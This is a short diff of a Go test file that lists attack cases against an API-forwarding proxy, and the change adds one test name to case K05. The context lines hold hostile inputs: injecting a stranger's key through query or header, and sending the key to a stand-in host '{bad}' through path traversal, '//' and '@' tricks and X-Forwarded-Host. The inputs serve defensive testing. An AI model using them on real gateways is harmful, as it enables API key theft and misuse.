@@ -83,7 +83,7 @@ func keyAttacks() []Attack {
 				"model -key {stranger} -body '{honest-gemini}' gemini /v1beta/models/gemini-x:generateContent",
 				"model -body '{honest-gemini}' gemini /v1beta/models/gemini-x:generateContent?key={stranger}",
 				"model -header 'X-Goog-User-Project: {stranger}' -body '{honest-gemini}' gemini /v1beta/models/gemini-x:generateContent"},
-			Judge: strangerArrives, Tests: []string{"TestKeysOfOthers"}},
+			Judge: strangerArrives, Tests: []string{"TestKeysOfOthers", "TestLabStrangersKeys"}},
 		{ID: "K06", Title: "the key, sent to another host",
 			Try: []string{"model -host {bad} -body '{honest}' anthropic /v1/messages", "model -body '{honest}' anthropic //{bad}/v1/messages", "model -body '{honest}' anthropic /../../{bad}/v1/messages",
 				"model -header 'X-Forwarded-Host: {bad}' -body '{honest}' anthropic /v1/messages", "model -body '{honest}' anthropic /v1/messages@{bad}"},
